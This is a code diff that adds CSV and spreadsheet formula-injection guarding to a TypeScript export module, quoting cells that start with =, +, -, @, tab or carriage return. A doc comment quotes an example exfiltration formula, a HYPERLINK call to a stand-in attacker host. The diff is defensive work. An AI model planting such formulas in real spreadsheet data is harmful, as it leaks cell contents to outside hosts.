@@ -9,9 +9,29 @@ export const FORMATS = ['csv', 'json', 'xlsx'] as const;
 export type Format = (typeof FORMATS)[number];
 export type Row = Record<string, string | number | boolean | null | undefined>;
 
+/** Written as a number (optionally signed, with a decimal point or comma and an exponent): left as it is. */
+const NUMBER_TEXT = /^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$/;
+/** What a spreadsheet reads as the start of a formula (or DDE), per OWASP's CSV injection advice. */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/**
+ * The one guard of every CSV and XLSX cell of free text (machine exports and page downloads alike): text that
+ * a spreadsheet would take for a formula (starting with =, +, -, @, a tab or a carriage return) and is not a
+ * number gets a leading single quote, so Excel and LibreOffice show it as text and never evaluate it
+ * (`=HYPERLINK("http://evil.example/?d="&A3,"x")` → `'=HYPERLINK(…)`). Numbers, and text such as `-5`, pass
+ * unchanged. JSON is data for programs and is not touched.
+ */
+export function spreadsheetText<T>(value: T): T | string {
+  if (typeof value !== 'string' || !FORMULA_START.test(value) || NUMBER_TEXT.test(value)) return value;
+  return `'${value}`;
+}
+
+/** A row's cells in column order for a spreadsheet: blanks for missing values, free text guarded. */
+const sheetCells = (r: Row, columns: readonly string[], blank: '' | null) => columns.map((c) => (r[c] === null || r[c] === undefined ? blank : spreadsheetText(r[c])));
+
 export function toCsv(rows: Row[], columns: readonly string[]): string {
   return stringify(
-    rows.map((r) => columns.map((c) => (r[c] === null || r[c] === undefined ? '' : r[c]))),
+    rows.map((r) => sheetCells(r, columns, '')),
     { header: true, columns: [...columns], cast: { number: (n) => String(n), boolean: (b) => String(b) } },
   );
 }
@@ -27,7 +47,7 @@ export async function toXlsx(rows: Row[], columns: readonly string[], sheetName 
   const ws = wb.addWorksheet(sheetName.slice(0, 31));
   ws.columns = columns.map((c) => ({ header: c, key: c, width: Math.max(10, c.length + 2) }));
   ws.getRow(1).font = { bold: true };
-  for (const r of rows) ws.addRow(Object.fromEntries(columns.map((c) => [c, r[c] ?? null])));
+  for (const r of rows) ws.addRow(sheetCells(r, columns, null));
   ws.views = [{ state: 'frozen', ySplit: 1 }];
   return Buffer.from(await wb.xlsx.writeBuffer());
 }
@@ -52,7 +72,7 @@ export async function writeRows(rows: Iterable<Row>, columns: readonly string[],
       const ws = wb.addWorksheet(sheetName.slice(0, 31), { views: [{ state: 'frozen', ySplit: 1 }] });
       ws.columns = columns.map((c) => ({ header: c, key: c, width: Math.max(10, c.length + 2) }));
       ws.getRow(1).font = { bold: true };
-      for (const r of rows) ws.addRow(Object.fromEntries(columns.map((c) => [c, r[c] ?? null]))).commit();
+      for (const r of rows) ws.addRow(sheetCells(r, columns, null)).commit();
       ws.commit();
       await wb.commit();
     } else {
@@ -78,7 +98,7 @@ function* textPieces(rows: Iterable<Row>, columns: readonly string[], format: 'c
     const text =
       format === 'csv'
         ? stringify(
-            batch.map((r) => columns.map((c) => (r[c] === null || r[c] === undefined ? '' : r[c]))),
+            batch.map((r) => sheetCells(r, columns, '')),
             { header: count === 0, columns: [...columns], cast: { number: (n) => String(n) } },
           )
         : batch.map((r, i) => `${count + i === 0 ? '[\n' : ',\n'} ${json(r)}`).join('');
